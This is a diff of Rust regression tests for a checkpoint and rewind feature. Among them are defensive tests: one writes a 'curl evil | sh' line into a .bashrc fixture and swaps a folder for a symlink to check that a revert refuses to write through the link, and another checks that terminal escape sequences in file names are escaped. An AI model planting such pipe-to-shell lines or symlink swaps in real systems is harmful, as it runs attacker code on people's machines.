@@ -52,7 +52,7 @@ fn a_step_is_taken_back_byte_for_byte_and_a_hand_edit_is_kept() {
     let store = checkpoints.store();
     let now = store.manifest(&now.id).unwrap();
     let step = step(&before.id, &after.id);
-    let plan = rewind::plan(store, &[&step], &now).unwrap();
+    let plan = rewind::plan(store, std::slice::from_ref(&step), &now).unwrap();
     assert_eq!(
         plan.lines(),
         [
@@ -64,8 +64,8 @@ fn a_step_is_taken_back_byte_for_byte_and_a_hand_edit_is_kept() {
         ]
     );
     let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
-    let failed = rewind::apply(store, &sandbox, &plan).unwrap();
-    assert!(failed.is_empty(), "{failed:?}");
+    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
+    assert!(applied.written && applied.failed.is_empty(), "{applied:?}");
     assert_eq!(std::fs::read(root.join("a.txt")).unwrap(), b"one\ntwo\n");
     assert_eq!(
         std::fs::read(root.join("b.bin")).unwrap(),
@@ -153,7 +153,7 @@ fn a_file_over_the_limit_is_named_once_and_cannot_be_put_back() {
     assert!(second.too_large.is_empty(), "named once");
     let store = checkpoints.store();
     let now = store.manifest(&second.id).unwrap();
-    let plan = rewind::plan(store, &[&step(&first.id, &second.id)], &now).unwrap();
+    let plan = rewind::plan(store, &[step(&first.id, &second.id)], &now).unwrap();
     assert!(plan.is_empty());
     assert_eq!(
         plan.lines(),
@@ -190,7 +190,7 @@ fn a_crash_mid_checkpoint_is_repaired_and_a_damaged_object_is_refused() {
     let third = checkpoints.take().unwrap();
     let store = checkpoints.store();
     let now = store.manifest(&third.id).unwrap();
-    let plan = rewind::plan(store, &[&step(&first.id, &third.id)], &now);
+    let plan = rewind::plan(store, &[step(&first.id, &third.id)], &now);
     assert!(matches!(plan, Err(Error::Corrupt { .. })), "{plan:?}");
     assert_eq!(std::fs::read(root.join("a.txt")).unwrap(), b"changed");
 }
@@ -266,5 +266,83 @@ fn the_store_is_private() {
         .join("objects")
         .join(&taken.id[..2])
         .join(&taken.id[2..]);
-    assert_eq!(std::fs::metadata(object).unwrap().mode() & 0o777, 0o600);
+    for file in [
+        object,
+        dir.join("latest"),
+        dir.join("workspace"),
+        dir.join("sessions/s1"),
+    ] {
+        let mode = std::fs::metadata(&file).unwrap().mode() & 0o777;
+        assert_eq!(mode, 0o600, "{}", file.display());
+    }
+}
+
+#[test]
+fn a_link_where_a_folder_was_stops_the_revert_before_anything_is_written() {
+    let data = tempfile::tempdir().unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let root = work.path();
+    let victim = root.join("victim");
+    std::fs::create_dir_all(&victim).unwrap();
+    std::fs::write(victim.join(".bashrc"), "# the person's\n").unwrap();
+    std::fs::write(root.join("other.txt"), "before\n").unwrap();
+    // Ignored as a link, kept as a folder: the checkpoints never see the
+    // link that replaces it.
+    std::fs::write(root.join(".gitignore"), "x\n!x/\nvictim/\n").unwrap();
+    std::fs::create_dir(root.join("x")).unwrap();
+    std::fs::write(root.join("x/.bashrc"), "curl evil | sh\n").unwrap();
+    let mut checkpoints = open(data.path(), root, CheckpointSettings::default());
+    let before = checkpoints.take().unwrap();
+    std::fs::remove_dir_all(root.join("x")).unwrap();
+    std::os::unix::fs::symlink("victim", root.join("x")).unwrap();
+    std::fs::write(root.join("other.txt"), "after\n").unwrap();
+    let after = checkpoints.take().unwrap();
+    let store = checkpoints.store();
+    let now = store.manifest(&after.id).unwrap();
+    let plan = rewind::plan(store, &[step(&before.id, &after.id)], &now).unwrap();
+    assert_eq!(
+        plan.lines(),
+        ["revert  other.txt  +1 -1", "restore x/.bashrc"]
+    );
+    let sandbox = crate::sandbox::Sandbox::new(root).unwrap();
+    let applied = rewind::apply(store, &sandbox, &plan).unwrap();
+    assert!(!applied.written, "{applied:?}");
+    assert_eq!(applied.failed.len(), 1, "{applied:?}");
+    assert!(
+        applied.failed[0].reason.contains("is no longer a folder"),
+        "{applied:?}"
+    );
+    assert_eq!(
+        std::fs::read(victim.join(".bashrc")).unwrap(),
+        b"# the person's\n"
+    );
+    assert_eq!(
+        std::fs::read(root.join("other.txt")).unwrap(),
+        b"after\n",
+        "all or nothing"
+    );
+}
+
+#[test]
+fn a_step_cut_short_ends_at_the_next_beginning_or_now() {
+    let turn = |steps: Vec<Step>| rewind::Turn {
+        number: 1,
+        parent: None,
+        prompt: String::new(),
+        steps,
+    };
+    let turns = vec![turn(vec![step("a", ""), step("b", "c"), step("d", "")])];
+    let settled = rewind::settle(&turns, "now");
+    let ends: Vec<(&str, &str)> = settled[0]
+        .steps
+        .iter()
+        .map(|s| (s.before.as_str(), s.after.as_str()))
+        .collect();
+    assert_eq!(ends, [("a", "b"), ("b", "c"), ("d", "now")]);
+}
+
+#[test]
+fn names_are_shown_without_their_control_characters() {
+    let path = Path::new("evil\u{1b}]0;title\u{7}\nname.txt");
+    assert_eq!(rewind::shown(path), "evil\\u{1b}]0;title\\u{7}\\nname.txt");
 }
